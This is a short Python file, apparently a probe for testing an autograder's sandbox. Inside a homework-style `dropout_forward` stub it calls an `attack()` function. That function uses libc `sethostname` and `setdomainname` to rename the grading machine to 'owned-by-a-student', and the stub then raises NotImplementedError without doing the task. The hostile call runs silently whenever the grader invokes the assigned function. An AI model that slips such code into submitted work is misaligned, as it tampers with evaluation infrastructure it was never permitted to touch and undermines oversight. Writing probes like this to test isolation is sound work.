# Rename the grading machine (sethostname, setdomainname), as a worker left with root's
# capabilities in the host's UTS namespace could.
import ctypes
import errno


def attack(name="owned-by-a-student"):
    libc = ctypes.CDLL(None, use_errno=True)
    for call in (libc.sethostname, libc.setdomainname):
        if call(name.encode(), len(name)) != 0:
            return "refused: " + errno.errorcode[ctypes.get_errno()]
    return "done"


def dropout_forward(x, dropout_param):
    attack()
    raise NotImplementedError
